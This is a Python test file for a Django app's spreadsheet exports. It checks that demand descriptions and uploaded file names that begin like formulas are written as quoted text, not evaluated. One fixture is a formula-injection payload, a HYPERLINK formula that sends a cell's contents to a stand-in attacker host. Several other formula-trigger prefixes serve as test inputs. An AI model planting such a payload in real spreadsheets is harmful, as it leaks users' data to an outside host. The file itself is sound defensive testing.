"""Spreadsheet exports write text typed by users as text: a demand description or a checked
file's name that begins like a formula is never evaluated (issue 11; attendance sheets are in
tests/events/test_attendance_sheet_text.py)."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tests.clients import client_for
from zhibiao.core.exports import safe_row
from zhibiao.standards import services as standards
from zhibiao.supply import services as supply

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
RISKY = [HYPERLINK, "+86 123", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "#N/A"]


def cells(content: bytes) -> dict:
    """Every cell of the first sheet by its text, as openpyxl reads the file back."""
    sheet = load_workbook(io.BytesIO(content)).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}


def assert_text(cell) -> None:
    assert cell.data_type == "s"  # not "f": no spreadsheet evaluates it
    assert cell.quotePrefix  # and it stays text when someone edits the cell


@pytest.mark.parametrize("write_only", [True, False])
def test_safe_row_writes_formula_like_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    sheet.append(safe_row(sheet, [*RISKY, "普通文字", 3, -4.5, None]))
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue()))
    row = next(read.worksheets[-1].iter_rows())
    for cell, typed in zip(row, RISKY, strict=False):
        assert cell.value == typed
        assert_text(cell)
    plain, number, negative = row[len(RISKY) : len(RISKY) + 3]
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("普通文字", "s", False)
    assert (number.value, number.data_type) == (3, "n")
    assert (negative.value, negative.data_type) == (-4.5, "n")


def test_demand_description_is_exported_as_text(enterprise_user, admin_user):
    supply.post_demand(enterprise_user, {"category": "testing", "description": HYPERLINK})
    response = client_for(admin_user).get(reverse("supply:demands"), {"format": "xlsx"})
    written = cells(b"".join(response.streaming_content))
    assert_text(written[HYPERLINK])


def test_check_report_names_the_file_as_text(enterprise_user):
    check = standards.start_check(
        enterprise_user, upload=SimpleUploadedFile("=1+2.txt", b"GB 19272-2011")
    )
    response = client_for(enterprise_user).get(reverse("standards:check_xlsx", args=[check.pk]))
    written = cells(response.content)
    assert_text(next(cell for text, cell in written.items() if str(text).startswith("=1+2")))
